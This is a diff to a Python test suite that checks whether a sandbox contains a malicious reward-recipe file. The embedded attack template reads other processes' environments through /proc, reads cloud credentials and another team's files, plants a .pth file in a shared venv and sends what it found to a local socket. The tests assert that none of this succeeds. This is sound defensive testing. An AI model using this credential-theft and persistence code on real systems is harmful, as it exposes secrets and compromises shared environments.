@@ -3,10 +3,11 @@
 The attack: a reward file that, at import, reads the environment of every process it can see
 through /proc (the parent's first: `tpurl validate`, the flow, or a worker holding
 HF_TOKEN and PREFECT_API_KEY), the Google credentials in the parent's home, another team's
-recipe beside its own, writes into the parent's home, and sends what it found to a socket
-server this test runs on 127.0.0.1. The file is otherwise a good recipe, so validate would
-print "valid". Checked through the real CLI and the real probe in a real sandbox
-(flows/core/recipe_sandbox.py): nothing arrives at the socket, nothing is written, and the
+recipe beside its own, writes into the parent's home and into the venv every team's check
+imports from, and sends what it found to a socket server this test runs on 127.0.0.1. The
+file is otherwise a good recipe, so validate would print "valid". Checked through the real
+CLI and the real probe in a real sandbox (flows/core/recipe_sandbox.py): nothing arrives at
+the socket, nothing is written, and the
 recipe's real problems (a missing function, a syntax error) are still reported.
 
 The import path needs a venv that stands in for the image (MaxText and Tunix importable): a
@@ -52,6 +53,7 @@ import socket
 
 PARENT_PID = {parent_pid}
 PARENT_HOME = {parent_home!r}
+PLANTED = {planted!r}
 OTHER_TEAM = {other_team!r}
 PORT = {port}
 
@@ -70,11 +72,12 @@ for path in ["/proc/%d/environ" % os.getppid(), "/proc/%d/environ" % PARENT_PID,
              os.path.expanduser("~/.config/gcloud/application_default_credentials.json"),
              PARENT_HOME + "/.config/gcloud/application_default_credentials.json", OTHER_TEAM]:
     stolen[path] = _read(path)
-try:
-    with open(PARENT_HOME + "/planted", "w") as handle:
-        handle.write("planted by a recipe")
-except OSError:
-    pass
+for path in PLANTED:
+    try:
+        with open(path, "w") as handle:
+            handle.write("import os  # planted by a recipe")
+    except OSError:
+        pass
 try:
     with socket.create_connection(("127.0.0.1", PORT), timeout=5) as sock:
         sock.sendall(json.dumps(stolen).encode())
@@ -144,9 +147,10 @@ class Teams:
     attack: Path
     other_team: Path
     home: Path
+    planted: tuple[Path, ...]
 
 
-def _teams(tmp_path: Path, port: int, parent_pid: int) -> Teams:
+def _teams(tmp_path: Path, port: int, parent_pid: int, venv: Path) -> Teams:
     home = tmp_path / "home"
     (home / ".config" / "gcloud").mkdir(parents=True)
     (home / ".config" / "gcloud" / "application_default_credentials.json").write_text(
@@ -159,9 +163,13 @@ def _teams(tmp_path: Path, port: int, parent_pid: int) -> Teams:
     team_b = tmp_path / "team-b"
     team_b.mkdir()
     attack = team_b / "rewards.py"
+    # the parent's home, and the venv every team's check and rehearsal imports from
+    (site,) = venv.glob("lib/python*/site-packages")
+    planted = (home / "planted", site / "tpurl_planted.pth")
     attack.write_text(ATTACK.format(parent_pid=parent_pid, parent_home=str(home),
+                                    planted=[str(p) for p in planted],
                                     other_team=str(other_team), port=port))
-    return Teams(attack, other_team, home)
+    return Teams(attack, other_team, home, planted)
 
 
 def _secrets_in(received: list[bytes]) -> list[str]:
@@ -193,11 +201,11 @@ def _secret_env(home: Path) -> dict[str, str]:
 def test_a_reward_that_steals_at_import_reaches_nothing_and_validate_still_judges_it(
         tmp_path: Path, receiver: Receiver, image_venv: Path,
         capsys: pytest.CaptureFixture[str]) -> None:
-    teams = _teams(tmp_path, receiver.port, os.getpid())
+    teams = _teams(tmp_path, receiver.port, os.getpid(), image_venv)
     done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
                   _secret_env(teams.home))
     assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
-    assert not (teams.home / "planted").exists()
+    assert not [path for path in teams.planted if path.exists()]
     # the file's real problem is still found, by importing it (no warning that it was read)
     assert done.returncode == 2, done.stderr
     assert (f"recipe.rewards.functions: {teams.attack}: defines no function 'exact_mach2'"
@@ -236,6 +244,27 @@ def test_an_import_error_is_reported_from_inside_the_sandbox(tmp_path: Path,
     assert run_probe(run, ["--rewards", str(rewards), "--functions", "f"]) == (RecipeCheck(), [])
 
 
+def test_no_process_the_recipe_starts_outlives_the_check(tmp_path: Path,
+                                                        image_venv: Path) -> None:
+    """A daemon started at import, in a session of its own, ends with the check: the
+    sandbox's process namespace goes when its first process does."""
+    seconds = f"3600.{os.getpid()}"  # a command line no other process has
+    rewards = tmp_path / "rewards.py"
+    rewards.write_text(f"import os\nif os.fork() == 0:\n    os.setsid()\n    os.execv("
+                       f"'/bin/sleep', ['sleep', '{seconds}'])\n\n\ndef f(prompts, "
+                       "completions, **kwargs):\n    return [1.0]\n")
+    run = ProbeRun(image_venv / "bin" / "python", static=False)
+    assert run_probe(run, ["--rewards", str(rewards), "--functions", "f"]) == (RecipeCheck(), [])
+    left = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if seconds.encode() in cmdline.read_bytes():
+                left.append(cmdline.parent.name)
+        except OSError:
+            continue  # ended while listed
+    assert left == []
+
+
 # --- plan and check import only when asked -------------------------------------------------
 
 def test_plan_and_check_read_the_recipe_unless_asked_to_import_it(
@@ -249,7 +278,7 @@ def test_plan_and_check_read_the_recipe_unless_asked_to_import_it(
     rewards.write_text("raise RuntimeError('ran at import')\n\n\n"
                        "def exact_match(prompts, completions, **kwargs):\n"
                        "    return [1.0 for _ in completions]\n")
-    teams = Teams(rewards, rewards, tmp_path)
+    teams = Teams(rewards, rewards, tmp_path, ())
     args = _validate_args(teams, image_venv, tmp_path, "exact_match")[1:]
     assert main(["plan", *args]) == 0
     err = capsys.readouterr().err
@@ -283,12 +312,12 @@ def test_a_user_without_root_is_sandboxed_or_told_the_imports_were_not_checked(
         tmp_path: Path, receiver: Receiver, image_venv: Path, userns: bool) -> None:
     if os.geteuid() != 0:
         pytest.skip("makes a user namespace with a limit of its own, as root")
-    teams = _teams(tmp_path, receiver.port, os.getpid())
+    teams = _teams(tmp_path, receiver.port, os.getpid(), image_venv)
     wrapper = ("sh", "-c", _AS_USER.format(limit=2 if userns else 1), "sh")
     done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
                   _secret_env(teams.home), wrapper)
     assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
-    assert not (teams.home / "planted").exists()
+    assert not [path for path in teams.planted if path.exists()]
     assert done.returncode == 2, done.stderr
     assert "defines no function 'exact_mach2'" in done.stderr
     if userns:
